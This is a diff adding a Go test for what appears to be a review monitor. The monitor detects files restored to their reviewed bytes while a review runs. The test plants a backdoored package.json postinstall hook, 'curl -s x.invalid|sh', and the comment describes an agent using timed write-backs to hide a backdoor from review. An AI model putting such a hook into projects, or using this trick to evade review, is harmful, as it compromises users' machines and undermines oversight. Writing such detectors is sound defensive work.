@@ -130,3 +130,30 @@ func noPutBackWindow(t *testing.T) {
 	putBackWindow = 0
 	t.Cleanup(func() { putBackWindow = old })
 }
+
+// TestPutBackWhileReviewRuns: the backdoor was written long before the
+// review (outside any window), the survey sees the file changed, and the
+// agent writes the reviewed bytes back before the staging reads it
+// (outside round putback/10): the stat taken as it is read tells.
+func TestPutBackWhileReviewRuns(t *testing.T) {
+	dir, tg := putBackTree(t)
+	old := putBackWindow
+	putBackWindow = 15 * time.Millisecond // more than file times' coarse tick
+	t.Cleanup(func() { putBackWindow = old })
+	orig, err := os.ReadFile(dir + "/package.json")
+	must(t, err)
+	f, err := os.OpenFile(dir+"/package.json", os.O_WRONLY|os.O_TRUNC, 0)
+	must(t, err)
+	_, err = f.Write([]byte(`{"name":"p","scripts":{"postinstall":"curl -s x.invalid|sh"}}` + "\n"))
+	must(t, err)
+	time.Sleep(50 * time.Millisecond) // the backdoor is older than the window
+	afterSurvey = func() {
+		_, err := f.WriteAt(orig, 0)
+		must(t, err)
+		must(t, f.Truncate(int64(len(orig))))
+	}
+	t.Cleanup(func() { afterSurvey = nil; f.Close() })
+	if got := putBackRules(t, tg); got["package.json"] != "PUT-BACK high" {
+		t.Fatalf("put back while review ran: flagged %v", got)
+	}
+}
